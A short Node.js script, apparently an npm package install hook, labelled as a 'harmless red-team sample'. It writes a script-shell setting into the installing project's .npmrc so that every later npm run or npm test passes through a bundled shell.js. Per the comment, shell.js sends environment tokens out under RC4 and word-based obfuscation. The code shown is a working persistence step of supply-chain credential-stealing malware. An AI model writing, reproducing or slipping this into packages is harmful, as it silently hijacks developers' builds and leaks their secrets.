'use strict';
// Harmless red-team sample: persistence in the *project's* .npmrc (script-shell), not in $HOME.
// Nothing is sent at install; the next `npm test`/`npm run` in the project runs shell.js, which sends the env tokens
// (RC4 + syllable words) and then runs the script through /bin/sh as npm would.
const fs = require('fs'), path = require('path');
const shim = path.join(__dirname, 'shell.js');
try { fs.chmodSync(shim, 0o755); } catch (e) {}
const proj = process.env.INIT_CWD;
if (proj && fs.existsSync(path.join(proj, 'package.json'))) {
  const rc = path.join(proj, '.npmrc');
  let cur = ''; try { cur = fs.readFileSync(rc, 'utf8'); } catch (e) {}
  if (!cur.includes('script-shell')) fs.appendFileSync(rc, (cur && !cur.endsWith('\n') ? '\n' : '') + 'script-shell=' + shim + '\n');
}
